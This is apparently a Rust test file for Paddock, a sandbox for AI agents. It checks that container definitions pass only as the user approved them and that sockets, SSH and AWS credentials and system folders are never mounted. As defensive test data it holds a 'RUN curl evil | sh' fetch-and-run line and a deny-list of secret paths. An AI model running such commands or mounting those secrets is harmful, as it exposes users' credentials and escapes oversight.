//! The approval model on real folders: a definition passes the gate only as
//! the user approved it; extra mounts only from an approved definition,
//! read-only by default, and never the host's sockets or secrets.

use std::os::unix::net::UnixListener;
use std::path::PathBuf;

use sandbox::approval::{Approvals, Gate, HostSockets, Review, Status};
use sandbox::definition::{Definition, Mount};
use sandbox::presets::Presets;
use sandbox::project::Project;

/// A project in a home of its own, and the user's approvals there.
pub(crate) struct Setup {
    _dir: tempfile::TempDir,
    pub(crate) home: PathBuf,
    pub(crate) project: Project,
    pub(crate) approvals: Approvals,
    pub(crate) sockets: HostSockets,
}

pub(crate) fn setup() -> Setup {
    let dir = tempfile::tempdir().expect("temp dir");
    let base = dir.path().canonicalize().expect("canonical");
    let home = base.join("home");
    let root = base.join("home/src/demo");
    std::fs::create_dir_all(&root).expect("project");
    let project = Project::open(&root, &home).expect("project");
    let runtime = base.join("run-user");
    std::fs::create_dir_all(&runtime).expect("runtime dir");
    Setup {
        approvals: Approvals::at(home.join(".local/share/paddock/approvals")),
        sockets: HostSockets::new(vec![runtime]),
        home,
        project,
        _dir: dir,
    }
}

impl Setup {
    pub(crate) fn gate(&self) -> Gate {
        self.approvals
            .gate(
                &self.project,
                &Presets::builtin(),
                &self.home,
                &self.sockets,
            )
            .expect("gate")
    }

    fn save(&self, definition: &Definition) {
        self.project.save_definition(definition).expect("save");
    }

    /// Saves `definition` and approves it as the window's form or
    /// `paddock init` would.
    pub(crate) fn save_approved(&self, definition: &Definition) {
        self.save(definition);
        self.approvals
            .approve_written(
                &self.project,
                &Presets::builtin(),
                &self.home,
                &self.sockets,
            )
            .expect("approve");
    }

    /// The review the gate asks for; a panic when it passes.
    pub(crate) fn review(&self) -> Review {
        match self.gate() {
            Gate::NeedsApproval(review) => review,
            Gate::Approved(_) => panic!("expected a review"),
        }
    }

    fn approve_review(&self) {
        match self.gate() {
            Gate::NeedsApproval(review) => self
                .approvals
                .approve(&self.project, &review)
                .expect("approve"),
            Gate::Approved(_) => panic!("expected a review"),
        }
    }

    fn file(&self, name: &str) -> PathBuf {
        self.project.sandbox_dir().join(name)
    }
}

fn definition() -> Definition {
    let mut definition = Definition::new("shell", "registry.fedoraproject.org/fedora:44");
    definition.sandbox.mount = Some("/src/demo".into());
    definition
}

fn mount(source: &str, target: &str, read_only: bool) -> Mount {
    Mount {
        source: source.into(),
        target: target.into(),
        read_only,
    }
}

#[test]
fn an_approved_definition_passes_and_a_changed_one_shows_its_diff() {
    let s = setup();
    s.save_approved(&definition());
    assert!(matches!(s.gate(), Gate::Approved(_)));

    // Changed from outside the sandbox (an editor, a git pull).
    let text = std::fs::read_to_string(s.file("paddock.toml")).expect("read");
    std::fs::write(
        s.file("paddock.toml"),
        text.replace("cpus = 2", "cpus = 16"),
    )
    .expect("write");
    let Gate::NeedsApproval(review) = s.gate() else {
        panic!("a changed definition must not pass");
    };
    assert_eq!(review.status, Status::Changed);
    assert!(
        review.diff.contains("-cpus = 2\n+cpus = 16\n"),
        "{}",
        review.diff
    );
    assert!(
        review.diff.contains("--- approved/paddock.toml"),
        "{}",
        review.diff
    );
    let text = review.to_text(&s.project);
    assert!(text.contains("changed since you approved it"), "{text}");

    s.approvals.approve(&s.project, &review).expect("approve");
    let Gate::Approved(approved) = s.gate() else {
        panic!("approved now");
    };
    assert_eq!(approved.definition().resources.cpus, 16);
}

#[test]
fn approving_records_what_was_shown_not_what_is_there_later() {
    let s = setup();
    s.save_approved(&definition());
    let mut changed = definition();
    changed.resources.cpus = 4;
    s.save(&changed);
    let Gate::NeedsApproval(review) = s.gate() else {
        panic!("changed");
    };
    // Changed again between showing the diff and the user's yes.
    changed.resources.cpus = 64;
    s.save(&changed);
    s.approvals.approve(&s.project, &review).expect("approve");
    let Gate::NeedsApproval(again) = s.gate() else {
        panic!("the later change was never shown, so it is not approved");
    };
    assert!(
        again.diff.contains("-cpus = 4\n+cpus = 64\n"),
        "{}",
        again.diff
    );
}

#[test]
fn a_cloned_definition_is_not_approved() {
    let s = setup();
    // Written by something other than Paddock: nothing on record.
    std::fs::create_dir_all(s.project.sandbox_dir()).expect("dir");
    std::fs::write(s.file("paddock.toml"), definition().to_toml()).expect("write");
    let Gate::NeedsApproval(review) = s.gate() else {
        panic!("a definition Paddock did not write must be reviewed");
    };
    assert_eq!(review.status, Status::NeverApproved);
    assert!(
        review
            .diff
            .contains("--- /dev/null\n+++ current/paddock.toml"),
        "{}",
        review.diff
    );
    assert!(
        review
            .to_text(&s.project)
            .contains("has not been approved by you yet")
    );

    // The same project approved by path elsewhere does not count either:
    // records are per project folder.
    let other = setup();
    other.save_approved(&definition());
    assert!(matches!(s.gate(), Gate::NeedsApproval(_)));
}

#[test]
fn the_hand_written_containerfile_counts_and_the_generated_files_do_not() {
    let s = setup();
    let mut custom = definition();
    custom.image.base = None;
    custom.image.containerfile = Some("Dockerfile".into());
    std::fs::create_dir_all(s.project.sandbox_dir()).expect("dir");
    std::fs::write(s.file("Dockerfile"), "FROM fedora:44\n").expect("write");
    s.save_approved(&custom);
    assert!(matches!(s.gate(), Gate::Approved(_)));

    // Generated files are rendered afresh for every build: no approval.
    std::fs::write(s.file("entrypoint.sh"), "#!/bin/sh\nexec evil\n").expect("write");
    std::fs::write(s.file("compose.yaml"), "services: {}\n").expect("write");
    assert!(matches!(s.gate(), Gate::Approved(_)));

    std::fs::write(s.file("Dockerfile"), "FROM fedora:44\nRUN curl evil | sh\n").expect("write");
    let Gate::NeedsApproval(review) = s.gate() else {
        panic!("the Containerfile is built from: it needs approval");
    };
    assert!(
        review.diff.contains("+RUN curl evil | sh"),
        "{}",
        review.diff
    );
}

#[test]
fn a_symlinked_definition_is_refused() {
    let s = setup();
    s.save_approved(&definition());
    let elsewhere = s.home.join("elsewhere.toml");
    std::fs::rename(s.file("paddock.toml"), &elsewhere).expect("move");
    std::os::unix::fs::symlink(&elsewhere, s.file("paddock.toml")).expect("link");
    let error = s
        .approvals
        .gate(&s.project, &Presets::builtin(), &s.home, &s.sockets)
        .expect_err("refused");
    assert!(error.to_string().contains("not a regular file"), "{error}");
}

#[test]
fn a_damaged_record_asks_again_and_says_why() {
    let s = setup();
    s.save_approved(&definition());
    let records = s.home.join(".local/share/paddock/approvals");
    let record = std::fs::read_dir(&records)
        .expect("records")
        .next()
        .expect("one record")
        .expect("entry")
        .path();
    std::fs::write(&record, "{ not json").expect("damage");
    let Gate::NeedsApproval(review) = s.gate() else {
        panic!("unreadable record: ask again");
    };
    assert!(
        notes(&review).contains("could not be read"),
        "{:?}",
        review.notes
    );
    s.approvals.approve(&s.project, &review).expect("approve");
    assert!(matches!(s.gate(), Gate::Approved(_)));
}

#[test]
fn extra_mounts_outside_the_project_pass_only_when_approved_and_read_only_by_default() {
    let s = setup();
    let data = s.home.join("datasets");
    std::fs::create_dir_all(&data).expect("data");
    std::fs::create_dir_all(s.project.root().join("docs")).expect("docs");
    s.save_approved(&definition());

    // An agent (or a pull) adds a mount of a folder outside the project.
    let mut widened = definition();
    widened.mounts.push(mount("~/datasets", "/data", true));
    widened.mounts.push(mount("docs", "/docs", true));
    widened
        .validate(&Presets::builtin())
        .expect("a valid definition");
    s.save(&widened);
    let Gate::NeedsApproval(review) = s.gate() else {
        panic!("an outside mount must be approved");
    };
    let shown = notes(&review);
    assert!(shown.contains("OUTSIDE the project"), "{shown}");
    assert!(shown.contains(&data.display().to_string()), "{shown}");
    assert!(review.diff.contains("+[[mounts]]"), "{}", review.diff);

    s.approve_review();
    let Gate::Approved(approved) = s.gate() else {
        panic!("approved");
    };
    let binds: Vec<_> = approved.mounts().iter().map(|m| m.bind()).collect();
    assert_eq!(binds.len(), 2);
    assert_eq!(binds[0].source, data);
    assert_eq!(binds[0].target, "/data");
    assert!(
        binds.iter().all(|b| b.read_only),
        "read-only by default: {binds:?}"
    );
    assert!(approved.mounts()[1].inside_project);
    assert!(!approved.mounts()[0].inside_project);

    // Written access is part of what is approved.
    let mut writable = widened.clone();
    writable.mounts[0].read_only = false;
    s.save(&writable);
    let Gate::NeedsApproval(review) = s.gate() else {
        panic!("read-write is a change to approve");
    };
    assert!(
        review.diff.contains("+read_only = false"),
        "{}",
        review.diff
    );
    assert!(notes(&review).contains("read-write"), "{:?}", review.notes);
    s.approve_review();
    let Gate::Approved(approved) = s.gate() else {
        panic!("approved");
    };
    assert!(!approved.mounts()[0].read_only);
}

#[test]
fn default_read_only_in_the_file_itself() {
    let definition = Definition::parse(
        "version = 1\n[agent]\npreset = \"shell\"\n[image]\nbase = \"fedora:44\"\n[[mounts]]\nsource = \"~/data\"\ntarget = \"/data\"\n",
        &Presets::builtin(),
    )
    .expect("valid");
    assert_eq!(definition.mounts, vec![mount("~/data", "/data", true)]);
}

/// Never mountable, approved or not: each with its own reason.
#[test]
fn sockets_secrets_and_system_folders_are_never_mounted() {
    let s = setup();
    let runtime = s.home.parent().expect("base").join("run-user");
    let listener_path = s.home.join("agent.sock");
    let _listener = UnixListener::bind(&listener_path).expect("a socket");
    std::fs::create_dir_all(s.home.join(".ssh")).expect("ssh");
    std::fs::create_dir_all(s.home.join("real-ssh")).expect("real");
    std::os::unix::fs::symlink(s.home.join(".ssh"), s.home.join("innocent")).expect("link");
    for private in [
        ".config/containers",
        ".local/share/paddock/approvals",
        ".local/bin",
        ".cache",
        ".aws",
        ".mozilla",
    ] {
        std::fs::create_dir_all(s.home.join(private)).expect("a private place");
    }
    std::os::unix::fs::symlink(s.home.join(".config"), s.home.join("settings")).expect("link");

    let root = s.project.root().to_str().expect("utf-8").to_owned();
    let cases: Vec<(Mount, &str)> = vec![
        (
            mount(listener_path.to_str().expect("utf-8"), "/s", true),
            "is a socket",
        ),
        (
            mount(runtime.to_str().expect("utf-8"), "/r", true),
            "host socket",
        ),
        (mount("~/.ssh", "/k", true), "SSH keys"),
        (
            mount("~/.config/containers", "/c", false),
            "podman's containers.conf",
        ),
        (mount("~/settings", "/c", true), "podman's containers.conf"),
        (
            mount("~/.local/share/paddock", "/p", false),
            "Paddock's own approvals",
        ),
        (mount("~/.local/bin", "/b", false), "programs you run"),
        (mount("~/.cache", "/cache", false), "caches of the programs"),
        (mount("~/.aws", "/aws", true), "AWS credentials"),
        (mount("~/.mozilla", "/m", true), "Firefox profiles"),
        (mount("~/innocent", "/k", true), "SSH keys"),
        (mount("/etc", "/e", true), "system folder"),
        (mount("/", "/all", true), "root folder"),
        (mount("~/", "/h", true), "home folder"),
        (
            mount(".agent-sandbox", "/def", false),
            "change its own sandbox definition",
        ),
        (
            mount(&root, "/again", false),
            "change its own sandbox definition",
        ),
        (mount("~/missing", "/m", true), "does not exist"),
    ];
    for (extra, reason) in cases {
        let mut widened = definition();
        widened.mounts.push(extra.clone());
        s.save_approved(&widened);
        let result = s
            .approvals
            .gate(&s.project, &Presets::builtin(), &s.home, &s.sockets);
        let error = match result {
            Err(error) => error.to_string(),
            Ok(Gate::Approved(a)) => panic!("{extra:?} was mounted: {:?}", a.mounts()),
            Ok(Gate::NeedsApproval(r)) => panic!("{extra:?}: {:?}", r.notes),
        };
        assert!(error.contains(reason), "{extra:?}: {error}");
        assert!(error.contains("mounts[0]"), "{error}");
    }
    // The project read-only elsewhere is fine (it is the agent's anyway).
    let mut fine = definition();
    fine.mounts.push(mount(&root, "/again", true));
    s.save_approved(&fine);
    assert!(matches!(s.gate(), Gate::Approved(_)));
}

#[test]
fn the_host_sockets_of_the_session_are_known() {
    let sockets = format!("{:?}", HostSockets::from_env());
    for expected in ["/tmp/.X11-unix", "/run/podman", "/run/dbus"] {
        assert!(sockets.contains(expected), "{sockets}");
    }
    if let Ok(runtime) = std::env::var("XDG_RUNTIME_DIR") {
        assert!(sockets.contains(&runtime), "{sockets}");
    }
}

#[test]
fn mount_values_are_checked_with_their_keys() {
    let presets = Presets::builtin();
    let cases: Vec<(Mount, &str)> = vec![
        (mount("a:b", "/x", true), "mounts[0].source"),
        (mount("a,ro", "/x", true), "mounts[0].source"),
        (mount("$HOME", "/x", true), "mounts[0].source"),
        (mount("a\nb", "/x", true), "mounts[0].source"),
        (mount("../up", "/x", true), "mounts[0].source"),
        (mount("~root/x", "/x", true), "mounts[0].source"),
        (mount("", "/x", true), "mounts[0].source"),
        (mount("data", "relative", true), "mounts[0].target"),
        (mount("data", "/src/demo", true), "mounts[0].target"),
        (mount("data", "/src", true), "mounts[0].target"),
        (
            mount("data", "/src/demo/.agent-sandbox", true),
            "mounts[0].target",
        ),
        (
            mount("data", "/src/demo/.agent-sandbox/x", true),
            "mounts[0].target",
        ),
        (mount("data", "/home/agent", true), "mounts[0].target"),
        (mount("data", "/home", true), "mounts[0].target"),
        (mount("data", "/etc/x", true), "mounts[0].target"),
    ];
    for (extra, key) in cases {
        let mut d = definition();
        d.mounts.push(extra.clone());
        let errors = d.validate(&presets).expect_err("refused");
        assert!(
            errors.for_field(key).next().is_some(),
            "{extra:?}: {errors}"
        );
    }
    let mut twice = definition();
    twice.mounts.push(mount("a", "/x", true));
    twice.mounts.push(mount("b", "/x/", true));
    let errors = twice.validate(&presets).expect_err("refused");
    assert!(
        errors.for_field("mounts[1].target").next().is_some(),
        "{errors}"
    );

    let mut fine = definition();
    fine.mounts.push(mount("~/My Data/set-1", "/data", true));
    fine.mounts
        .push(mount("/mnt/big", "/home/agent/.cache/big", false));
    fine.validate(&presets).expect("valid");
    let round = Definition::parse(&fine.to_toml(), &presets).expect("round trip");
    assert_eq!(round, fine);
}

/// The review's notes, one a line.
pub(crate) fn notes(review: &Review) -> String {
    review
        .notes
        .iter()
        .map(|note| note.text.as_str())
        .collect::<Vec<_>>()
        .join("\n")
}
